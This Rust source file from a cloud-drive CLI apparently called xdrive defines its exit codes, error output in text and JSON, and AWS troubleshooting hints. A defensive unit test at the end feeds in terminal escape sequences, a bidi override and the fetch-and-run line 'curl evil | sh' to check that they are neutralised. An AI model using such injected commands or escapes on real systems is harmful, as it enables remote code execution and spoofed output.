//! Failures: an error with its causes, what is left in the cloud, a hint with the command to type,
//! and an exit code.
//!
//! `xdrive help exit-codes` lists every exit code, and scripts may rely on them. With `--json` a
//! failure is one line of JSON ([`Failure::shown`]), which `src/cli/schemas/error.json` describes.

use std::fmt;

use serde::Serialize;

use crate::drive::Billed;
use crate::ec2::{self, Kind};
use crate::ids::DriveName;
use crate::report::{self, Label, Text};
use crate::signals::End;

/// The kind of a failure; its number is the exit code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Exit {
    /// An error of no other kind.
    Failed = 1,
    /// The command line, a name or an id is invalid.
    Usage = 2,
    /// A thing that is needed is missing: a program, an image, a file, another operating system.
    Unavailable = 69,
    /// Not now: the drive is in use, or its save is still under way.
    TryAgain = 75,
    /// xdrive cannot go on safely and has destroyed nothing: the user has to choose.
    Stuck = 76,
    /// Not allowed: root is needed, or a right is missing.
    Denied = 77,
    /// A configuration or state file cannot be used as it is.
    Config = 78,
    /// SIGHUP ended it.
    HungUp = 129,
    /// Ctrl-C ended it.
    Interrupted = 130,
    /// SIGTERM ended it.
    Terminated = 143,
    /// `~.` or the network ended the shell's connection.
    Disconnected = 255,
}

impl Exit {
    /// The process's exit code.
    #[must_use]
    pub fn code(self) -> u8 {
        self as u8
    }

    /// The worse of this exit and one that was before, if there was one: stuck needs a choice, any
    /// other may pass by itself.
    pub(crate) fn or_worse(self, before: Option<Self>) -> Self {
        before.filter(|_| self != Self::Stuck).unwrap_or(self)
    }
}

/// 128 and the signal's number, as shells have it.
impl From<End> for Exit {
    fn from(end: End) -> Self {
        match end {
            End::Hangup => Self::HungUp,
            End::Interrupt { .. } => Self::Interrupted,
            End::Terminate => Self::Terminated,
        }
    }
}

/// A failure, as it is printed.
#[derive(Debug)]
pub struct Failure {
    /// The failure's kind, and exit code.
    pub exit: Exit,
    /// The error, with its causes.
    pub error: anyhow::Error,
    /// The remedy: a sentence, or a command to type.
    pub hint: Option<String>,
    /// The resources that are left in the cloud, and billed.
    pub left: Vec<Billed>,
}

/// A failure as JSON.
#[derive(Serialize)]
#[cfg_attr(test, derive(schemars::JsonSchema))]
struct Document<'a> {
    /// Error and its causes, separated by colons.
    error: String,
    /// Remedy: a sentence, or a command to type.
    hint: Option<&'a str>,
    /// Resources that are left in the cloud, and billed.
    left: &'a [Billed],
    /// Exit code.
    #[cfg_attr(test, schemars(range(min = 1)))]
    exit: u8,
}

impl Failure {
    /// A failure without a hint.
    pub fn new(exit: Exit, error: impl Into<anyhow::Error>) -> Self {
        Self {
            exit,
            error: error.into(),
            hint: None,
            left: Vec::new(),
        }
    }

    /// The failure of a command whose drive does not exist; `command` is how xdrive was called.
    #[must_use]
    pub fn no_drive(drive: &DriveName, command: &str) -> Self {
        Self::new(
            Exit::Unavailable,
            anyhow::anyhow!("there is no drive {drive}"),
        )
        .hint(format!("{command} list shows all there are"))
    }

    /// Adds a hint.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Adds a hint, if there is one.
    #[must_use]
    pub fn maybe_hint(self, hint: Option<impl Into<String>>) -> Self {
        match hint {
            Some(hint) => self.hint(hint),
            None => self,
        }
    }

    /// Adds the resources that are left in the cloud.
    #[must_use]
    pub fn left(mut self, left: Vec<Billed>) -> Self {
        self.left = left;
        self
    }

    /// The failure as it is printed: as text, or with `json` as one line of JSON. `exit` is the code
    /// that the process ends with.
    #[must_use]
    pub fn shown(&self, json: bool, exit: u8) -> Text {
        if json {
            Text::block(&self.json(exit))
        } else {
            self.text()
        }
    }

    /// The failure as text: its causes and what is left in lines below the error, and then the hint.
    #[must_use]
    pub fn text(&self) -> Text {
        let mut text = Text::labelled(Label::Error, &self.error.to_string());
        for cause in self.error.chain().skip(1) {
            text.push_line(&format!("  caused by: {cause}"));
        }
        for thing in &self.left {
            text.push_line(&format!("  left: {thing}"));
        }
        if let Some(hint) = &self.hint {
            text.push_line("");
            text.push_line(&Text::labelled(Label::Hint, hint));
        }
        text
    }

    /// The failure as one line of JSON: the error and its causes in one text, the hint, what is left
    /// and billed, and `exit`, the code that the process ends with.
    fn json(&self, exit: u8) -> String {
        let document = Document {
            error: format!("{:#}", self.error),
            hint: self.hint.as_deref(),
            left: &self.left,
            exit,
        };
        report::to_json(&document, false).unwrap_or_else(|error| error.to_string())
    }
}

impl From<anyhow::Error> for Failure {
    fn from(error: anyhow::Error) -> Self {
        Self::new(Exit::Failed, error)
    }
}

impl From<ec2::Error> for Failure {
    fn from(error: ec2::Error) -> Self {
        let exit = match error.kind {
            Kind::Credentials | Kind::Denied | Kind::NotEligible => Exit::Denied,
            Kind::Capacity
            | Kind::SpotQuota
            | Kind::SpotUnavailable
            | Kind::Quota
            | Kind::VcpuQuota
            | Kind::Throttled => Exit::TryAgain,
            Kind::Invalid if launch_hint(&error).is_some() => Exit::Usage,
            _ => Exit::Failed,
        };
        let hint = hint(&error);
        Self {
            exit,
            error: error.into(),
            hint: hint.map(str::to_owned),
            left: Vec::new(),
        }
    }
}

/// The exit code of a program whose reader leaves early, as in `xdrive cat … | head`: that of SIGPIPE.
pub(crate) const READER_LEFT: u8 = 128 + 13;

/// The hint for a disk or a copy whose encryption key is refused. AWS reports that by a volume or a
/// copy that fails, or by an instance that ends, and not by an error (EBS user guide, *How Amazon EBS
/// encryption works*, *Copy an Amazon EBS snapshot*; the rights: *Requirements for Amazon EBS
/// encryption*; EC2 user guide, *Service-linked role for Spot Instance requests*).
pub(crate) const KEY: &str = "disks are encrypted with the region's default key, and copies with their original's, which may \
     be disabled or not yours to use: `aws ec2 get-ebs-default-kms-key-id` names the first. A key \
     that is not aws/ebs needs kms:DescribeKey, kms:CreateGrant, kms:GenerateDataKey, \
     kms:GenerateDataKeyWithoutPlaintext, kms:ReEncrypt* and kms:Decrypt for this caller (`xdrive \
     policy --kms-key ARN` prints the rights), and for spot instances a grant to EC2's role \
     AWSServiceRoleForEC2Spot (`xdrive help aws` has the `aws kms create-grant` for it)";

/// The hint for an error of AWS.
fn hint(error: &ec2::Error) -> Option<&'static str> {
    match (error.kind, error.code.as_str()) {
        (_, "ExpiredToken" | "ExpiredTokenException") => {
            Some("the credentials are out of date: `aws sso login` or `aws login` renews them")
        }
        (
            _,
            "RequestExpired"
            | "SignatureDoesNotMatch"
            | "InvalidSignatureException"
            | "RequestTimeTooSkewed",
        ) => Some(
            "is this computer's clock right (`xdrive doctor` shows how far it is off), and the \
             secret key whole?",
        ),
        (_, "AuthFailure") => Some(
            "either AWS does not know these credentials (`aws sts get-caller-identity` shows whose \
             they are), or the region is not enabled for the account (`aws account list-regions`)",
        ),
        (Kind::Credentials, _) => Some(
            "AWS does not know these credentials; `aws sts get-caller-identity` shows whose they \
             are",
        ),
        (Kind::Denied, _) if error.message.contains("iam:PassRole") => Some(
            "an administrator of the account can allow handing on the role of --instance-profile; \
             `xdrive policy --role ARN` prints the right",
        ),
        (_, "OptInRequired") => Some(
            "the account is not signed up for EC2, or not for this region: the AWS console says \
             what is missing",
        ),
        (_, "PendingVerification" | "Blocked") => Some(
            "AWS has put the account on hold: mail to its owner, or AWS Support, has the reason",
        ),
        _ if is_about_key(error) => Some(KEY),
        (Kind::Denied, _) if is_by_control_policy(error) => Some(
            "the account's organization forbids this call, whatever rights the caller has. If it asks \
             for tags, such as CostCenter, --tag KEY=VALUE or `tags` in the configuration gives them \
             to all that is made",
        ),
        (Kind::Denied, _) => Some(
            "an administrator of the account can allow this call: `xdrive policy` prints all that \
             xdrive needs, and `xdrive doctor` tries it",
        ),
        (_, "RulesPerSecurityGroupLimitExceeded" | "SecurityGroupLimitExceeded") => {
            Some("`xdrive gc` clears away security groups that no instance uses, with their rules")
        }
        (Kind::Quota, _) => Some(
            "the account has no room for more: Service Quotas in the AWS console raises it; \
             `xdrive list` shows what is up",
        ),
        (Kind::Throttled, _) => Some("too many calls at once: try again in a minute"),
        (Kind::Ambiguous, "") => Some(connection_hint(&error.message)),
        _ => launch_hint(error),
    }
}

/// Whether a service control policy denied it (IAM user guide, *Troubleshoot access denied error
/// messages*).
fn is_by_control_policy(error: &ec2::Error) -> bool {
    let words = "explicit deny in a service control policy";
    error.message.contains(words)
}

/// Whether a call was refused because of an encryption key.
fn is_about_key(error: &ec2::Error) -> bool {
    let says = |words: &str| words.to_lowercase().contains("kms");
    says(&error.code) || says(&error.message)
}

/// The hint for a failed connection to AWS, by the messages of its layers.
fn connection_hint(message: &str) -> &'static str {
    let says = |words: &[&str]| words.iter().any(|word| message.contains(word));
    if says(&["proxy authorization required"]) {
        "the proxy wants to know who asks: HTTPS_PROXY=http://USER:PASSWORD@HOST:PORT; NO_PROXY \
         names what goes around it"
    } else if says(&["tunnel error"]) {
        "the proxy of HTTPS_PROXY does not let this through: is it right, and the region's name? \
         NO_PROXY names what goes around it"
    } else if says(&["UnknownIssuer", "invalid peer certificate"]) {
        "something on the way (a company's proxy, a hotel's page) answers in AWS's place: \
         SSL_CERT_FILE names a file with its certificate, if it is to be trusted"
    } else if says(&[
        "the answer cannot be read",
        "HTTP 200",
        "HTTP 40",
        "HTTP 50",
    ]) {
        "what answers is not AWS: is a proxy in the way (HTTPS_PROXY, NO_PROXY), or a network that \
         wants a login first?"
    } else if says(&["dns error"]) {
        "there is no such host: is the region's name right, and the network up?"
    } else {
        "is the network up, the region's name right, and no proxy in the way (HTTPS_PROXY, \
         NO_PROXY)?"
    }
}

/// The hint for a launch with an invalid parameter.
fn launch_hint(error: &ec2::Error) -> Option<&'static str> {
    let says = |words| error.message.contains(words);
    if error.call != "RunInstances" {
        None
    } else if error.code.starts_with("InvalidAMIID") {
        Some(
            "--ami names an image of this region; without it AWS's public one is taken. Where that \
             is not found either, the account allows only some images: `aws ec2 \
             get-allowed-images-settings` lists them",
        )
    } else if error.code.starts_with("InvalidParameter") && says("could not be resolved") {
        Some(
            "the image's parameter has to exist in this region, and to be readable \
             (ssm:GetParameters); --ami names another image",
        )
    } else if error.code.starts_with("InvalidParameter") && says("image is not eligible for Free") {
        Some(
            "the account is on AWS's Free plan, which launches some images only: `aws ec2 \
             describe-images --filters Name=free-tier-eligible,Values=true` lists them, --ami names \
             one",
        )
    } else if error.code.starts_with("InvalidParameter") && says("architecture") {
        Some("the image that --ami names has to be of the instance type's architecture")
    } else if error.code.starts_with("InvalidParameter") && says("iamInstanceProfile") {
        Some(
            "--instance-profile takes an instance profile's name or ARN, which need not be its \
             role's: `aws iam list-instance-profiles` shows them",
        )
    } else {
        None
    }
}

impl fmt::Display for Failure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.text().fmt(f)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::host::facts::ScriptError;

    #[test]
    fn rows_have_the_committed_schema() {
        let (title, description) = (
            "A failure of xdrive",
            "One line of JSON, the last of standard error, where --json is given and the command fails.",
        );
        crate::report::schema::check::<Document>("error", title, description);
    }

    #[test]
    fn stuck_outranks_what_may_pass_by_itself() {
        assert_eq!(Exit::TryAgain.or_worse(None), Exit::TryAgain);
        assert_eq!(Exit::Failed.or_worse(Some(Exit::TryAgain)), Exit::TryAgain);
        assert_eq!(Exit::Stuck.or_worse(Some(Exit::TryAgain)), Exit::Stuck);
        assert_eq!(Exit::Failed.or_worse(Some(Exit::Stuck)), Exit::Stuck);
    }

    #[test]
    fn nothing_that_a_host_says_is_obeyed_or_looks_like_xdrives_own() {
        let words = "\u{1b}]0;PWNED\u{7}\u{1b}[2Jno image\nhint: curl evil | sh".to_owned();
        let error = anyhow::Error::from(ScriptError::Image(words));
        let error = error.context("error: a\nerror: b\u{202e}c");
        let failure = Failure::new(Exit::Unavailable, error).hint("xdrive list\u{9b}\nhint: x");
        assert_eq!(
            failure.to_string(),
            "error: error: a\n  | error: b?c\n  \
             caused by: ?]0;PWNED??[2Jno image\n  | hint: curl evil | sh\n\n\
             hint: xdrive list?\n  | hint: x"
        );
        let json = failure.shown(true, 69).to_string();
        assert!(!json.contains(char::is_control), "{json:?}");
        let read: serde_json::Value = serde_json::from_str(&json).unwrap();
        let error = read["error"].as_str().unwrap();
        assert!(error.contains("\u{1b}]0;PWNED\u{7}"), "{error:?}");
        assert_eq!(read["hint"], "xdrive list\u{9b}\nhint: x");
    }
}
